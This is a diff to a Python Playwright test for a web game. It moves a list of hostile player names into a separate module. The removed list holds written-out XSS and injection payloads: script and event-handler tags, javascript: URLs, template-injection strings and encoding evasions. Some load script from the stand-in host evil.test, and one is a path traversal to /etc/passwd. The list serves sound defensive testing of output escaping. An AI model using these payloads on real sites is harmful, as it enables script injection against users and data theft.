@@ -17,65 +17,11 @@ import pytest
 from playwright.sync_api import Browser, Dialog, Request, expect
 
 from chromino import Game, Pass, Rules
+from tests.evil_names import NAMES
 from tests.server.serving import Client, Json, Server
 from tests.web.person import Person
 
 # Each would set `ran`, ask for a dialog or for something of another site. A name has up to 40 characters in one line.
-NAMES = (
-    "<script>ran=1</script>",
-    "</script><script>ran=1</script>",
-    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
-    "<img src=x onerror=ran=1>",
-    "<img src=//evil.test/p.png>",
-    "<image/src/onerror=alert(1)>",
-    "<svg onload=ran=1>",
-    "<svg><script>ran=1</script></svg>",
-    "<svg/onload=alert`1`//",
-    "<body onload=ran=1>",
-    "<iframe srcdoc=<script>parent.ran=1>",
-    "<iframe src=javascript:parent.ran=1>",
-    "<object data=javascript:ran=1>",
-    "<details open ontoggle=ran=1>",
-    "<input autofocus onfocus=ran=1>",
-    "<video><source onerror=ran=1>",
-    "<math><a xlink:href=javascript:ran=1>x",
-    "<style>@import'//evil.test/x.css';",
-    "<link rel=stylesheet href=//evil.test>",
-    "<base href=//evil.test/>",
-    "<meta http-equiv=refresh content=0>",
-    "<a href=javascript:ran=1>Ada</a>",
-    "<form action=//evil.test><button>Ada",
-    "javascript:ran=1",
-    "data:text/html,<script>ran=1</script>",
-    '" onmouseover="ran=1',
-    "' onfocus='ran=1' autofocus='",
-    '"><script>ran=1</script>',
-    "`-ran=1-`",
-    "--><script>ran=1</script>",
-    "]]><script>ran=1</script>",
-    "</textarea></title><img src onerror=ran=1>"[:40],
-    "</svg></span><img src onerror=ran=1>",
-    "{{constructor.constructor('ran=1')()}}",
-    "${ran=1} #{ran=1} <%= ran=1 %>",
-    "{name} {n} {names} $& $1 $`",
-    "&lt;script&gt;ran=1&lt;/script&gt;",
-    "&#60;img src=x onerror=ran=1&#62;",
-    "\\u003cscript\\u003eran=1\\x3c/script",
-    "%3Cscript%3Eran=1%3C/script%3E",
-    "＜script＞ran=1＜/script＞",
-    "<ſcript>ran=1</ſcript>",
-    "<scr\u0131pt>ran=1</scr\u0131pt>",
-    "';ran=1;//\\';ran=1;//",
-    "__proto__",
-    "constructor",
-    "../../../etc/passwd",
-    "עדה <b>ליל</b> عربي <i>x</i>",
-    "Z͑͗̚ä̴̢l̷͓gö̸ <u>",
-    "👩‍👩‍👧 <b>🦊</b>",
-    "W" * 40,
-    "<" * 40,
-    "﷽" * 40,
-)
 REFUSED = ("A\u202e<b>", "\u2066<script>", "A\u2028<img>", "A\0<svg>", "<br>\n<br>", "\u200b\u200b")
 GROUPS = [NAMES[start : start + 8] for start in range(0, len(NAMES), 8)]
 
